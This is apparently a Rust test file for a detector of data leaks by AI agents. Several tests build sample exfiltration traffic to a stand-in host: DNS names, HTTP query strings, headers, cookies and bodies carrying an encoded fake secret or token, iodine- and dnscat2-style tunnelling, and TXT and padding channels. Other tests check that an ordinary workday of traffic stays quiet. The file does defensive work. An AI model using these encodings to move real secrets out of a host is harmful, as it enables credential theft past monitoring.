//! Ways in which agents are made to leak through what is allowed, and a working day beside them: what is found, after how
//! many bytes, and that work is quiet. Nothing here is from a capture, so users have it as well.

use std::sync::Arc;

use data_encoding::{BASE32_NOPAD, BASE64, BASE64URL_NOPAD, HEXLOWER};

use super::{
    tests::{Lab, query},
    *,
};
use crate::detect::secrets::HostSecrets;

const RESOLVER: &str = "10.0.0.53:53";
const ZONE: &str = "t.channel-7.net";
/// Made for this test; nothing accepts it.
const OWN: &str = "zV8-kq2+Rm5+Wt7xLp4";
/// A token by its form, in pieces, or those who look for such things find it here.
fn token() -> String {
    ["glpat", "-x7Rk2mPq9", "LzT4vNb8sWd"].concat()
}

fn lab(remote: &str) -> Lab {
    let secrets = HostSecrets::new([("DEPLOY_KEY", OWN.as_bytes())]).map(Arc::new);
    Lab::new(Config { secrets, ..Config::default() }, remote)
}

/// What came of the messages of a channel: payload bytes up to the first alert and to the first block, and the kinds.
#[derive(Debug, Default)]
struct Found {
    sent: usize,
    alert: Option<usize>,
    block: Option<usize>,
    kinds: Vec<&'static str>,
}

impl Found {
    fn add(&mut self, bytes: usize, verdicts: &[Verdict]) {
        self.sent += bytes;
        for verdict in verdicts {
            self.alert = self.alert.or(Some(self.sent));
            if verdict.action >= Action::Block {
                self.block = self.block.or(Some(self.sent));
            }
            let label = verdict.kind.label();
            if !self.kinds.contains(&label) {
                self.kinds.push(label);
            }
        }
    }
}

/// Digits such as sums have them.
fn hex(seed: u64, digits: usize) -> String {
    let mut text = String::new();
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5851_f42d_4c95_7f2d;
    while text.len() < digits {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        text.push_str(&format!("{state:016x}"));
    }
    text.truncate(digits);
    text
}

fn names(names: impl IntoIterator<Item = String>, pause: u64) -> Found {
    let (mut lab, mut found) = (lab(RESOLVER), Found::default());
    for (number, name) in names.into_iter().enumerate() {
        lab.seconds += pause;
        let verdicts = lab.ask(number as u64, &name);
        found.add(name.len().saturating_sub(ZONE.len() + 1), &verdicts);
    }
    found
}

/// A request each, over connections of their own.
fn requests(requests: impl IntoIterator<Item = String>) -> Found {
    let (mut lab, mut found) = (lab("192.0.2.80:80"), Found::default());
    for (flow, request) in requests.into_iter().enumerate() {
        // As the kernel cuts them.
        for (number, part) in request.as_bytes().chunks(1400).enumerate() {
            let verdicts = lab.send(100 + flow as u64, TCP, (number * 1400) as u64, part);
            found.add(part.len(), &verdicts);
        }
    }
    found
}

fn get(target: &str, header: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: cdn.channel-7.net\r\n{header}\r\n")
}

fn post(kind: &str, body: &str) -> String {
    format!(
        "POST /submit HTTP/1.1\r\nHost: cdn.channel-7.net\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// What one message has to be enough for.
#[test]
fn a_secret_is_found_in_the_first_message_that_has_it() {
    let token = token();
    let twice = BASE64.encode(HEXLOWER.encode(OWN.as_bytes()).as_bytes());
    let multipart = format!(
        "--b7\r\nContent-Disposition: form-data; name=\"file\"; filename=\"env\"\r\n\r\nKEY={token}\n\r\n--b7--\r\n"
    );
    let cases = [
        ("ping $(hex of the secret)", names([format!("{}.{ZONE}", HEXLOWER.encode(token.as_bytes()))], 0)),
        (
            "base32 of a secret of this host",
            names([format!("{}.{ZONE}", BASE32_NOPAD.encode(OWN.as_bytes()).to_lowercase())], 0),
        ),
        ("a token as it is", names([format!("{token}.{ZONE}")], 0)),
        ("the address of a request", requests([get(&format!("/p.gif?d={token}"), "")])),
        (
            "a header",
            requests([get("/", &format!("X-Trace: {}\r\n", BASE64.encode(format!("id={OWN};").as_bytes())))]),
        ),
        (
            "a cookie",
            requests([get("/", &format!("Cookie: s={}\r\n", BASE64URL_NOPAD.encode(OWN.as_bytes())))]),
        ),
        ("multipart", requests([post("multipart/form-data; boundary=b7", &multipart)])),
        ("JSON", requests([post("application/json", &format!("{{\"a\":\"x\",\"note\":\"{token}\"}}"))])),
        ("hex within base64", requests([post("text/plain", &twice)])),
        (
            "percent within JSON",
            requests([post(
                "application/json",
                &format!(
                    "{{\"q\":\"{}\"}}",
                    OWN.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>()
                ),
            )]),
        ),
        ("reversed", requests([post("text/plain", &OWN.chars().rev().collect::<String>())])),
        (
            "cut between two segments",
            requests([post("text/plain", &format!("{}{token} and more", " ".repeat(1400 - 105)))]),
        ),
    ];
    for (what, found) in cases {
        assert_eq!(found.block, Some(found.sent), "{what}: {found:?}");
    }
}

#[test]
fn an_echo_with_a_secret_is_found() {
    let (mut lab, mut found) = (lab("192.0.2.1:0"), Found::default());
    let verdicts = lab.send(5, ICMP, 0, OWN.as_bytes());
    found.add(OWN.len(), &verdicts);
    assert_eq!((found.block, found.kinds.as_slice()), (Some(OWN.len()), ["secret"].as_slice()));
}

/// Tools that send piece by piece, by how they code: the alert has to come before this many characters, and whether
/// they are blocked by themselves.
#[test]
fn channels_are_found_before_much_has_left() {
    const WORDS: [&str; 16] = [
        "apple", "river", "stone", "cloud", "green", "house", "light", "music", "ocean", "paper", "queen",
        "radio", "smile", "table", "uncle", "voice",
    ];
    let coded = |alphabet: &'static [u8; 32], length: usize| {
        (0..200_u64).map(move |number| {
            let digits: String = hex(number, 2 * length)
                .as_bytes()
                .chunks(2)
                .map(|pair| {
                    char::from(alphabet[usize::from(pair[0].wrapping_mul(31).wrapping_add(pair[1])) % 32])
                })
                .collect();
            format!("{digits}.{ZONE}")
        })
    };
    let words = (0..4000_u64).map(|number| {
        let digits = hex(number, 4);
        let words: Vec<&str> = digits.bytes().map(|digit| WORDS[usize::from(digit) % 16]).collect();
        format!("{}.{ZONE}", words.join("-"))
    });
    let cases = [
        ("iodine, base32 of 5 bits", names(coded(b"abcdefghijklmnopqrstuvwxyz012345", 50), 0), 400, true),
        ("dnscat2, hexadecimal", names((0..200).map(|n| format!("{}.{ZONE}", hex(n, 34))), 0), 700, true),
        ("short pieces of 8", names((0..400).map(|n| format!("{}.{ZONE}", hex(n, 8))), 0), 900, true),
        ("words", names(words, 0), 1500, true),
        (
            "20 digits every 5 minutes",
            names((0..288).map(|n| format!("{}.{ZONE}", hex(n, 20))), 300),
            1500,
            true,
        ),
        (
            "pieces of 26 digits in addresses of requests",
            requests((0..60).map(|n| get(&format!("/i?k={}", hex(n, 26)), ""))),
            2500,
            false,
        ),
        // As long as sums that name pictures: four times as many are none.
        (
            "pieces of 32 digits in addresses of requests",
            requests((0..120).map(|n| get(&format!("/i/{}", hex(n, 32)), ""))),
            9000,
            false,
        ),
    ];
    for (what, found, limit, blocked) in cases {
        assert!(found.alert.is_some_and(|sent| sent < limit), "{what}: {found:?}");
        assert_eq!(found.block.is_some(), blocked, "{what}: {found:?}");
    }
}

/// A record of an answer to `query`.
fn answer(query: &[u8], rtype: u16, data: &[u8]) -> Vec<u8> {
    let mut message = query.to_vec();
    message[2] = 0x81;
    message[3] = 0x80;
    message[7] = 1;
    message.extend([0xc0, 0x0c]);
    message.extend(rtype.to_be_bytes());
    message.extend([0, 1, 0, 0, 0, 1]);
    message.extend(u16::try_from(data.len()).unwrap().to_be_bytes());
    message.extend_from_slice(data);
    message
}

/// Names that say nothing, and answers that say it all; and a query whose name says nothing, with data behind it.
#[test]
fn channels_without_a_word_in_the_name_are_found() {
    const TXT: u16 = 16;
    let (mut lab, mut found) = (lab(RESOLVER), Found::default());
    for number in 0..60 {
        let mut asked = query(&format!("c{}.{ZONE}", number % 10));
        let end = asked.len();
        asked[end - 3] = 16;
        found.add(2, &lab.send(1, UDP, number, &asked));
        let text = hex(number, 200);
        let data = [&[200], text.as_bytes()].concat();
        let back = answer(&asked, TXT, &data);
        let source = lab.source(1, UDP);
        let sample = Sample {
            source,
            direction: Direction::Ingress,
            offset: number,
            payload: u32::try_from(back.len()).unwrap(),
            bytes: &back,
            held: None,
        };
        found.add(0, &lab.live.sample(&sample, &lab.actions));
    }
    assert!(found.alert.is_some_and(|sent| sent <= 2 * 21), "TXT commands: {found:?}");

    let mut padded = query("www.example.com");
    padded[11] = 1;
    let data = hex(3, 200);
    // OPT (RFC 6891) with an option of padding (RFC 7830) that is no padding.
    padded.extend([0, 0, 41, 4, 208, 0, 0, 0, 0]);
    padded.extend(u16::try_from(data.len() + 4).unwrap().to_be_bytes());
    padded.extend([0, 12]);
    padded.extend(u16::try_from(data.len()).unwrap().to_be_bytes());
    padded.extend(data.as_bytes());
    let mut lab = self::lab(RESOLVER);
    let verdicts = lab.send(1, UDP, 0, &padded);
    assert!(verdicts.iter().any(|one| one.kind == Kind::DnsAnomaly), "{verdicts:?}");
}

/// Eight hours of an agent that works: git, pip, npm, images, models, telemetry, each with what looks like data and is
/// none. Not one alert.
#[test]
fn a_working_day_is_quiet() {
    let mut dns = lab(RESOLVER);
    let mut flow = 1000;
    let mut told = Vec::new();
    let hosts = [
        "github.com",
        "api.github.com",
        "codeload.github.com",
        "objects.githubusercontent.com",
        "raw.githubusercontent.com",
        "pypi.org",
        "files.pythonhosted.org",
        "registry.npmjs.org",
        "static.crates.io",
        "index.crates.io",
        "proxy.golang.org",
        "sum.golang.org",
        "registry-1.docker.io",
        "auth.docker.io",
        "production.cloudflare.docker.com",
        "deb.debian.org",
        "security.debian.org",
        "api.anthropic.com",
        "statsig.anthropic.com",
        "api.openai.com",
        "o1158394.ingest.us.sentry.io",
        "http-intake.logs.us5.datadoghq.com",
        "api.segment.io",
        "huggingface.co",
        "cdn-lfs-us-1.hf.co",
        "cas-bridge.xethub.hf.co",
        "d1q6f0aelx0por.cloudfront.net",
        "ec2-3-91-7-24.compute-1.amazonaws.com",
        "k8s-prod-ingressn-3c0ff1a2b4-1a2b3c4d5e6f7a8b.elb.us-east-1.amazonaws.com",
        "my-artifacts.s3.us-west-2.amazonaws.com",
        "storage.googleapis.com",
        "fonts.gstatic.com",
        "www.google.com",
        "8.8.8.8.in-addr.arpa",
        "_acme-challenge.example.com",
        "selector1._domainkey.example.com",
        "vscode.download.prss.microsoft.com",
        "main.vscode-cdn.net",
        "default.exp-tas.com",
        "marketplace.visualstudio.com",
        "playwright.azureedge.net",
        "repo.maven.apache.org",
    ];
    for hour in 0..8_u64 {
        for round in 0..6_u64 {
            for host in hosts {
                for name in [host.to_owned(), format!("{host}.corp.example.com")] {
                    told.extend(dns.ask(hour * 1000 + round, &name));
                }
            }
            dns.seconds += 500;
        }
        let seed = hour * 1000;
        let sum = |at: u64, digits| hex(seed + at, digits);
        let day: Vec<(&str, String)> = vec![
            ("github.com", format!("GET /acme/tool-{hour}.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: github.com\r\nGit-Protocol: version=2\r\n\r\n")),
            ("github.com", {
                let wants: String = (0..20).map(|at| format!("0032want {}\n", sum(at, 40))).collect();
                format!("POST /acme/tool.git/git-upload-pack HTTP/1.1\r\nHost: github.com\r\nContent-Length: {}\r\n\r\n{wants}", wants.len())
            }),
            ("pypi.org", "GET /simple/requests/ HTTP/1.1\r\nHost: pypi.org\r\nUser-Agent: pip/24.0 {\"ci\":null,\"cpu\":\"x86_64\",\"installer\":{\"name\":\"pip\",\"version\":\"24.0\"}}\r\n\r\n".into()),
            ("files.pythonhosted.org", format!("GET /packages/{}/{}/{}/requests-2.3{hour}.0-py3-none-any.whl HTTP/1.1\r\nHost: files.pythonhosted.org\r\n\r\n", sum(1, 2), sum(2, 2), sum(3, 60))),
            ("registry.npmjs.org", format!("GET /@babel%2fcore HTTP/1.1\r\nHost: registry.npmjs.org\r\nnpm-session: {}\r\n\r\n", sum(4, 32))),
            ("registry.npmjs.org", "GET /lodash/-/lodash-4.17.21.tgz HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n".into()),
            ("registry-1.docker.io", format!("GET /v2/library/alpine/blobs/sha256:{} HTTP/1.1\r\nHost: registry-1.docker.io\r\n\r\n", sum(5, 64))),
            ("deb.debian.org", format!("GET /debian/dists/bookworm/main/binary-amd64/by-hash/SHA256/{} HTTP/1.1\r\nHost: deb.debian.org\r\n\r\n", sum(6, 64))),
            ("ocsp.digicert.com", "GET /MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ50otx%2Fh0Ztl%2Bz8SiPI7wEWVxDlQQUTiJUIBiV5uNu5g%2F6%2BrkS7QYXjzkCEAI5PUjXAkJafLQcAAsO18o%3D HTTP/1.1\r\nHost: ocsp.digicert.com\r\n\r\n".into()),
            ("my-artifacts.s3.us-west-2.amazonaws.com", format!("GET /build-{hour}.tar.gz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA{}%2F20260101%2Fus-west-2%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature={} HTTP/1.1\r\nHost: my-artifacts.s3.us-west-2.amazonaws.com\r\n\r\n", "QX3ZL5T2M6WVB4KJ", sum(7, 64))),
            ("api.segment.io", {
                let body = format!("{{\"batch\":[{{\"messageId\":\"{}-{}\",\"anonymousId\":\"{}\",\"type\":\"track\",\"event\":\"build finished\"}}]}}", sum(8, 8), sum(9, 12), sum(10, 32));
                format!("POST /v1/batch HTTP/1.1\r\nHost: api.segment.io\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len())
            }),
            ("internal.corp.example.com", format!("GET /api/v1/builds/{}/artifacts?page={hour} HTTP/1.1\r\nHost: internal.corp.example.com\r\nX-Request-Id: {}-{}-4{}-a{}-{}\r\nAuthorization: Bearer {}\r\n\r\n", sum(11, 24), sum(12, 8), sum(13, 4), sum(14, 3), sum(15, 3), sum(16, 12), sum(17, 40))),
        ];
        for (number, (host, request)) in day.into_iter().enumerate() {
            flow += 1;
            dns.remote = format!("198.51.100.{}:80", number + 1).parse().unwrap();
            for (part, bytes) in request.as_bytes().chunks(1400).enumerate() {
                let verdicts = dns.send(flow, TCP, (part * 1400) as u64, bytes);
                assert!(verdicts.is_empty(), "{host}: {verdicts:#?}");
            }
        }
        dns.remote = RESOLVER.parse().unwrap();
    }
    assert!(told.is_empty(), "{told:#?}");
}
